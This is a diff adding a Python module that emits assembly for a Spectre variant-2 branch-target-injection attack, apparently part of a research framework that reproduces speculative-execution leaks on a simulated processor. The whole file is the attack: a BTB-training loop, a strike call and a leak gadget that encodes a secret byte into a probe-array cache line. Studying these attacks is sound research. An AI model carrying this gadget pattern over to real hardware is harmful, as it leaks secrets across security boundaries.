@@ -1,0 +1,75 @@
+"""Spectre-BTB (variant-2 style): branch-target injection.
+
+The attacker repeatedly executes an *indirect* call whose register
+points at the leak gadget, training the BTB entry for that call site.
+The strike then executes the same indirect call with a benign target:
+the BTB still predicts the gadget, so the wrong path runs the leak
+sequence — reading the secret and touching its probe line — before the
+squash.
+
+The gadget dereferences a *caller-set* pointer (``t1``): during
+training it points at a harmless dummy byte, so the secret is never
+architecturally accessed; only the strike's wrong path sees the secret
+pointer.  This is the in-process analogue of variant 2; cross-process
+target injection would need shared BTB state across address spaces,
+which the per-process predictor model deliberately does not provide.
+"""
+
+from repro.attack.covert import emit_main_skeleton
+from repro.kernel.loader import build_binary
+
+VARIANT_NAME = "spectre_btb"
+
+
+def source(config):
+    prefix = "sbt"
+    train_block = f"""
+    ; ---- train the BTB: target = gadget, pointer = harmless dummy ----
+    li   a2, {config.training_rounds}
+{prefix}_train:
+    beq  a2, zero, {prefix}_train_done
+    la   t0, {prefix}_leak_gadget
+    la   t1, {prefix}_dummy
+    call {prefix}_dispatch
+    addi a2, a2, -1
+    jmp  {prefix}_train
+{prefix}_train_done:
+"""
+    strike_block = f"""
+    ; ---- strike: benign target, secret pointer; BTB predicts gadget ----
+    la   t0, {prefix}_benign_target
+    li   t1, {config.secret_address}
+    add  t1, t1, s0
+    call {prefix}_dispatch
+"""
+    extra_text = f"""
+; ---- dispatch: one indirect call site (the victim's vtable call) ----
+{prefix}_dispatch:
+    callr t0                           ; BTB-predicted; wrong path leaks
+    ret
+
+; ---- benign target: what the strike architecturally reaches ----
+{prefix}_benign_target:
+    nop
+    ret
+
+; ---- leak gadget: loads *t1 (dummy in training, secret transiently) ----
+{prefix}_leak_gadget:
+    lb   t2, 0(t1)
+    muli t2, t2, {config.stride}
+    la   t3, {prefix}_probe
+    add  t3, t3, t2
+    lw   t3, 0(t3)                     ; pointer-dependent cache fill
+    ret
+
+.data
+{prefix}_dummy:
+    .byte 0
+"""
+    return emit_main_skeleton(config, prefix, train_block, strike_block,
+                              extra_text)
+
+
+def build(config):
+    tag = "cr" if config.perturb is not None else "plain"
+    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
